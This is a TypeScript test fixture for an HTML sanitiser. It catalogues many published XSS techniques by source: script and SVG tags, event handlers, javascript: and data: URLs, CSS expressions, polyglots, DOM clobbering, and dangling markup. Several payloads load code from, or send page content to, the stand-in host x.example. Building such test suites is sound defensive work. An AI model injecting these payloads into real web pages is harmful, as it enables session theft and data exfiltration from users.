/**
 * Attacks on a sanitiser. Each is a published technique with variations: a text with a gap `@` hides the script, and
 * the content of the gap disguises the script.
 */
import { ENCODED, PARSERS } from "./xss-parsers.ts"
import {
  addresses,
  attack,
  fill,
  HANDLERS,
  HTML,
  IMG,
  OWASP,
  PORTSWIGGER,
  placed,
  RAW,
  SCRIPT,
  type Technique,
  words,
} from "./xss-shapes.ts"

const ELEMENTS: Technique[] = [
  attack("a script", `${OWASP}, Basic XSS Test Without Filter Evasion`, ...placed(SCRIPT, "<SCRIPT SRC=//x.example/>")),
  attack(
    "one text for many contexts",
    `${OWASP}, XSS Locator (Polyglot)`,
    ...placed(
      "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
      `'">><marquee>${IMG}</marquee>"></plaintext\\></|\\><plaintext/onmouseover=prompt(1)>`,
    ),
  ),
  attack(
    "brackets too many",
    `${OWASP}, Extraneous Open Brackets`,
    ...fill(["<<@>alert(1);//\\<</@>", "<@ <@>alert(1)</@>", "<<<@>>alert(1)<</@>>"], RAW),
  ),
  attack(
    "a word put together by removal",
    "CWE-182, Collapse of Data into Unsafe Value",
    ...fill(["<scr<@>ipt>alert(1)</scr</@>ipt>", "<im<@></@>g src=x onerror=alert(1)>"], RAW),
    `<<script></script>script>alert(1)<</script>/script>`,
  ),
  attack(
    "a script without its end",
    `${OWASP}, No Closing Script Tags`,
    ...placed("<SCRIPT SRC=//x.example/x.js?< B >"),
  ),
  attack(
    "tags without their end",
    `${OWASP}, Half Open HTML/JavaScript XSS Vector`,
    ...placed(
      "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
      "<img src=x onerror=alert(1) ",
      "<script",
      "<svg onload=alert(1)//",
    ),
  ),
  attack("brackets open twice", `${OWASP}, Double Open Angle Brackets`, ...placed("<iframe src=//x.example/s.html <")),
  attack(
    "an end of what is not open",
    `${OWASP}, End Title Tag`,
    ...fill([`</@>${IMG}`, `</@></@>${SCRIPT}`, `</@ onclick=alert(1)>`], RAW),
    "</p onclick=alert(1)><br/onclick=alert(1)>",
  ),
  attack(
    "an invented element",
    `${OWASP}, Anonymous HTML with STYLE Attribute`,
    ...placed(`<XSS STYLE="xss:expression(alert(1))">x</XSS>`, "<x-custom is=script onclick=alert(1)>x</x-custom>"),
  ),
  attack(
    "svg with a handler",
    `${OWASP}, SVG Object Tag`,
    ...placed("<svg/onload=alert('XSS')>", "<SVG ONLOAD=alert(1)//"),
  ),
  attack("a frame", `${OWASP}, IFRAME`, ...placed(`<IFRAME SRC="javascript:alert(1);"></IFRAME>`)),
  attack(
    "a frameset",
    `${OWASP}, FRAME`,
    ...placed(`<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>`, "<frameset onload=alert(1)>"),
  ),
  attack(
    "a document in an attribute",
    `${HTML} 4.8.5, srcdoc`,
    ...placed(`<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>`, `<iframe srcdoc='${SCRIPT}'>`),
  ),
  attack(
    "an object",
    `${OWASP}, OBJECT Tag`,
    ...placed(`<OBJECT TYPE="text/x-scriptlet" DATA="//x.example/s.html"></OBJECT>`, "<applet code=x.class></applet>"),
  ),
  attack(
    "an embedded film",
    `${OWASP}, EMBED a Flash Movie That Contains XSS`,
    ...placed("<EMBED SRC=//x.example/x.swf>"),
  ),
  attack(
    "an embedded drawing",
    `${OWASP}, EMBED SVG Which Contains XSS Vector`,
    ...placed(`<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">`),
  ),
  attack(
    "a page that sends on",
    `${OWASP}, META`,
    ...fill(
      [`<META HTTP-EQUIV="refresh" CONTENT="@">`, `<p><meta content='@' http-equiv=' REFRESH '>`],
      [
        "0;url=javascript:alert(1);",
        "0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "0; URL=http://;URL=javascript:alert(1);",
        "0,javascript:alert(1)",
      ],
    ),
  ),
  attack(
    "a cookie set by the page",
    `${OWASP}, Cookie Manipulation`,
    ...placed(`<META HTTP-EQUIV="Set-Cookie" Content="ID=<SCRIPT>alert(1)</SCRIPT>">`),
  ),
  attack(
    "another base",
    `${OWASP}, BASE Tag`,
    ...placed(`<BASE HREF="javascript:alert(1);//">`, "<base href=//x.example>"),
  ),
  attack(
    "a style sheet from elsewhere",
    `${OWASP}, Remote style sheet`,
    ...placed(
      "<LINK REL=stylesheet HREF=//x.example/x.css>",
      "<STYLE>@import'//x.example/x.css';</STYLE>",
      `<META HTTP-EQUIV="Link" Content="<//x.example/x.css>; REL=stylesheet">`,
      `<STYLE>BODY{-moz-binding:url("//x.example/x.xml#x")}</STYLE>`,
    ),
  ),
  attack(
    "styles that run",
    `${OWASP}, STYLE Tags that Breaks Up JavaScript for XSS`,
    ...placed(
      `<STYLE>@im\\port'\\ja\\vasc\\ript:alert("XSS")';</STYLE>`,
      `<STYLE TYPE="text/javascript">alert(1);</STYLE>`,
      `<STYLE>.XSS{background-image:url("javascript:alert(1)");}</STYLE><A CLASS=XSS></A>`,
      `<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS`,
    ),
  ),
  attack(
    "data as markup",
    `${OWASP}, XML Data Island with CDATA Obfuscation`,
    `<XML ID="x"><I><B><IMG SRC="javas<!-- -->cript:alert(1)"></B></I></XML><SPAN DATASRC="#x" DATAFLD="B" DATAFORMATAS="HTML">`,
    `<XML ID=I><X><C><![CDATA[<IMG SRC="javas]]><![CDATA[cript:alert(1);">]]></C></X></XML><SPAN DATASRC=#I DATAFLD=C>`,
  ),
  attack(
    "time in markup",
    `${OWASP}, HTML+TIME in XML`,
    `<HTML><BODY><?xml:namespace prefix="t" ns="urn:x"><t:set attributeName="innerHTML" to="X<SCRIPT DEFER>alert(1)</SCRIPT>">`,
  ),
  attack(
    "a form of theirs",
    "HTML5 Security Cheatsheet, formaction",
    ...placed(
      "<form action=javascript:alert(1)><button>x</button></form>",
      "<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>",
      "<input type=image formaction=//x.example src=x><isindex type=image src=1 onerror=alert(1)>",
    ),
  ),
  attack(
    "a shadow tree",
    `${HTML} 4.12.3, shadowrootmode`,
    ...placed(`<div><template shadowrootmode=open>${IMG}</template></div>`, `<template><template>${SCRIPT}`),
  ),
]

const ATTRIBUTES: Technique[] = [
  attack(
    "handlers",
    `${OWASP}, Attacks Using Event Handlers`,
    ...fill(["<p @=alert(1)>x</p>", `<img src=x @="alert(1)">`, "<img src=x @ = 'alert(1)'>"], HANDLERS),
    ...fill(["<video src=x @=alert(1) autoplay></video>", "<time datetime='x' @='alert(1)'>x</time>"], HANDLERS),
  ),
  attack("a link without an address", `${OWASP}, Malformed A Tags`, ...placed("<a onmouseover=alert(1)>x</a>")),
  attack(
    "quotes out of place",
    `${OWASP}, Malformed IMG Tags`,
    ...placed(`<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`, `<img """>${IMG}`, `<p ${'"'.repeat(50)}>${IMG}`),
  ),
  attack(
    "quotes around what is not theirs",
    `${OWASP}, XSS Using HTML Quote Encapsulation`,
    ...placed(`<SCRIPT a=">" SRC="//x.example/x.js"></SCRIPT>`, `<SCRIPT a=">'>" SRC="//x.example/x.js"></SCRIPT>`),
    `<img src='x' alt='"><img onerror=alert(1)>'>`,
    `<a href="https://ok.example/" title="'>"onclick="alert(1)">x</a>`,
    `<a href="https://ok.example/" title="&quot;><script>alert(1)</script>" onclick=a>x</a>`,
  ),
  attack(
    "an address that may be left out",
    `${OWASP}, Default SRC Tag by Leaving it out Entirely`,
    ...fill(["<IMG SRC=# @=alert(1)>", "<IMG SRC= @=alert(1)>", "<IMG @=alert(1)>"], HANDLERS),
  ),
  attack(
    "slashes between attributes",
    `${HTML} 13.2.2, unexpected-solidus-in-tag`,
    ...fill(["<img/src=x/@=alert(1)>", "<svg/@=alert(1)//", `<img src="x"@="alert(1)">`, "<p/@=a/>x"], HANDLERS),
  ),
  attack(
    "signs in a name",
    `${OWASP}, Non-alpha-non-digit XSS`,
    "<SCRIPT/XSS SRC=//x.example/x.js></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
    `<img src=x "onerror=alert(1)>`,
    "<p =onclick=alert(1)>x</p>",
    "<p <onclick=alert(1)>x</p>",
  ),
  attack(
    "blanks of other kinds",
    `${HTML} 13.2.5.32, before attribute name state`,
    ...fill(
      ["<img src=x@onerror=alert(1)>", "<img@src=x onerror@=@alert(1)>", "<p@onclick=a>x"],
      ["\t", "\n", "\f", "\r"],
    ),
  ),
  attack(
    "an attribute given twice",
    `${HTML} 13.2.2, duplicate-attribute`,
    `<a href="https://ok.example/" href="javascript:alert(1)">x</a>`,
    `<a href="javascript:alert(1)" href="https://ok.example/">x</a>`,
    `<a HREF="javascript:alert(1)" href="https://ok.example/" hRef="vbscript:x">x</a>`,
    `<img src="https://ok.example/" SRC=javascript:alert(1) onerror=a ONERROR=b>`,
  ),
  attack(
    "the page's own handlers",
    `${OWASP}, BODY Tag`,
    ...fill(["<BODY @=alert(1)>", "<p>x<body @ =alert(1)>"], HANDLERS),
  ),
  attack(
    "focus by itself",
    "HTML5 Security Cheatsheet, autofocus",
    ...fill(
      ["<@ autofocus onfocus=alert(1)>x</@>", "<@ tabindex=1 id=x onblur=alert(1)>x"],
      words("input select textarea p a"),
    ),
  ),
  attack(
    "elements that open by themselves",
    `${PORTSWIGGER}, ontoggle`,
    ...placed(
      "<details open ontoggle=alert(1)><summary>x</summary></details>",
      "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>x</p>",
      "<dialog open onclose=alert(1)>x</dialog>",
    ),
  ),
  attack(
    "media that fail",
    `${PORTSWIGGER}, onerror`,
    ...placed(
      "<video><source onerror=alert(1)></video>",
      "<audio src=x onerror=alert(1)></audio>",
      "<video poster=javascript:alert(1)//></video>",
      "<track src=x onerror=alert(1)>",
    ),
  ),
  attack(
    "text that runs",
    `${PORTSWIGGER}, onstart`,
    ...placed("<marquee onstart=alert(1) loop=1 width=0>x</marquee>"),
  ),
  attack(
    "styles in an attribute",
    `${OWASP}, STYLE Attribute that Breaks Up an Expression`,
    ...fill(
      [`<div style="@">x</div>`, `<img src=https://ok.example/i style='@'>`, `<a STYLE="@">x</a>`],
      [
        "xss:expr/*XSS*/ession(alert(1))",
        "width: expression(alert(1));",
        "background-image: url(javascript:alert(1))",
        "background-image:\\0075\\0072\\006C\\0028\\006a\\0061\\0076\\0061\\0029",
        "behavior: url(xss.htc);",
        "position:fixed;inset:0;background:url(//x.example)",
        "animation-name:x",
      ],
    ),
  ),
  attack("an entity of scripts", `${OWASP}, & JavaScript includes`, `<BR SIZE="&{alert('XSS')}">`, `<hr width=&{a}>`),
  attack(
    "names that hide the document's own",
    "OWASP DOM Clobbering Prevention",
    "<a id=x><a id=x name=y href=cid:x>x</a>",
    "<form id=document><input name=cookie></form>",
    ...fill(
      ["<img name=@ src=//x.example/i>", "<p id=@>x</p>", "<a name=@ href=//x.example>x</a>"],
      [...words("getElementById location cookie body __proto__ constructor currentScript")],
    ),
  ),
  attack(
    "names that every object has",
    "CWE-1321, Prototype Pollution",
    ...fill(
      ["<@>x</@>", "<p @=x>x</p>", "<img src=//x.example/i @=x>", "<p><@ onclick=a><p>x"],
      [...words("constructor __proto__ toString hasOwnProperty valueOf prototype")],
    ),
  ),
  attack(
    "an attribute that waits for the rest of the page",
    "Zalewski, Postcards from the post-XSS world",
    `<img src='https://x.example/?`,
    `<img src="https://x.example/?<p>secret</p>`,
    `<a href=https://x.example/ target='`,
    "<form action=https://x.example><textarea>",
    "<button form=f formaction=//x.example><option>",
    `<base target='`,
    "<plaintext>secret",
  ),
  attack(
    "a window that leads back",
    "OWASP HTML5 Security, Tabnabbing",
    ...fill(
      [`<a href="https://ok.example/" @>x</a>`],
      words("target=_blank rel=opener target=x ping=//x.example download=x"),
    ),
  ),
  attack(
    "attributes that frameworks run",
    "Lekies et al., Code-Reuse Attacks for the Web, CCS 2017",
    ...fill(
      ["<p @=alert(1)>x</p>", `<img src=//x.example/i @="alert(1)">`],
      [...words("data-bind v-on:click @click x-init ng-app hx-on:click data-html :href (click) wire:click style.x")],
    ),
  ),
]

const ADDRESSES: Technique[] = [
  addresses("links", `${OWASP}, fromCharCode`, `<a href="@">x</a>`, `<a href='@'>x</a>`, `<p>a<a href=" @ ">x</a>`),
  addresses("images", `${OWASP}, VBscript in an Image`, `<img src="@">`, `<image src="@">`),
  addresses(
    "sets of images",
    `${HTML} 4.8.4.2, srcset`,
    `<img srcset="@ 1x, @ 2x">`,
    `<picture><source srcset="@"><img src="@">`,
  ),
  addresses(
    "images that load late",
    "the wire itself, which reads data-src for src",
    `<img src="@" data-src="@">`,
    `<img data-lazy-src="@" data-other="@/a.jpg">`,
    `<img src="data:," data-srcset="@ 1x, @ 2x">`,
    `<div data-src="@/a.jpg"></div>`,
    `<noscript><img src="@"><iframe src="@"></iframe></noscript>`,
    `<picture><source data-srcset="@"><img src="data:,"></picture>`,
    `<video data-src="@" data-poster="@"></video><video poster="@"></video>`,
  ),
  addresses(
    "images and players of AMP",
    "the wire itself, which writes them as images and links",
    `<amp-img src="@" alt="@"></amp-img><amp-video src="@" poster="@"></amp-video>`,
    `<amp-iframe src="@" title="@"></amp-iframe><amp-facebook data-href="@"></amp-facebook>`,
    `<amp-youtube data-videoid="@"></amp-youtube><lite-youtube videoid="@"></lite-youtube>`,
  ),
  addresses("bases", "XML Base §3", `<div xml:base="@"><a href="x">x</a><img src="y"></div>`),
  addresses("old names of images", `${OWASP}, IMG Dynsrc`, `<img dynsrc="@" lowsrc="@" longdesc="@" usemap="@">`),
  addresses("media", `${PORTSWIGGER}, poster`, `<video src="@" poster="@"><source src="@"><track src="@"></video>`),
  addresses("sources of quotations", `${HTML} 4.4.4, cite`, `<blockquote cite="@">x</blockquote><q cite="@">x</q>`),
  addresses("frames", `${OWASP}, IFRAME Event Based`, `<iframe src="@"></iframe>`, `<iframe data-src="@" title="@">`),
  addresses(
    "objects",
    `${OWASP}, OBJECT Tag, DATA`,
    `<object data="@"><param name=src value="@"></object><embed src="@">`,
    `<object data="@" type="image/png" title="@"><embed src="@" type="image/png"></object>`,
  ),
  addresses(
    "forms",
    `${OWASP}, INPUT Image`,
    `<form action="@"><button formaction="@">x</button><input type=image src="@">`,
  ),
  addresses("backgrounds", `${OWASP}, TABLE`, `<table background="@"><td background="@">x`, `<body background="@">x`),
  addresses(
    "sounds and sheets",
    `${OWASP}, BGSOUND`,
    `<bgsound src="@"><link rel=stylesheet href="@"><a ping="@">x</a>`,
  ),
  addresses(
    "links of drawings",
    `${HTML} 13.2.6.1, adjust foreign attributes`,
    `<svg><a xlink:href="@"><text>x</text></a></svg>`,
    `<a xlink:href="@">`,
  ),
  addresses("things used in drawings", `${PORTSWIGGER}, SVG use`, `<svg><use href="@"/><image href="@"/></svg>`),
  addresses(
    "animated addresses",
    "sanitize-html GHSA-g8qq-57p8-ggw5",
    `<svg><a><animate attributeName=href values="#;@"/><text>x</text></a></svg>`,
    `<svg:animate attributeName="xlink:href" to="@">`,
  ),
  addresses(
    "links of formulas",
    `${PORTSWIGGER}, MathML href`,
    `<math href="@">x</math>`,
    `<math><mtext><a href="@">x`,
  ),
  attack(
    "a host by another way",
    `${OWASP}, Protocol Resolution in Script Tags`,
    ...fill(
      ["<SCRIPT SRC=@>", `<iframe src="@"></iframe>`, `<a href="@" onclick=a>x</a>`],
      [
        "//x.example/.j",
        "\\\\x.example",
        "/\\x.example",
        "https:x.example",
        "http:///x.example",
        "\t//x.example",
        "http://xn--a",
      ],
    ),
  ),
  attack(
    "schemes with signs",
    "sanitize-html 2.3.3, changelog",
    ...fill(
      [`<a href="@x">x</a>`, `<img src="@x">`, `<q cite='@x'>x</q>`],
      [...words("ms-calculator: web+x: a.b: x1: intent: sms: steam: ms-settings: about: x-javascript:")],
    ),
  ),
]

export const TECHNIQUES: readonly Technique[] = [...ELEMENTS, ...ATTRIBUTES, ...ADDRESSES, ...PARSERS, ...ENCODED]
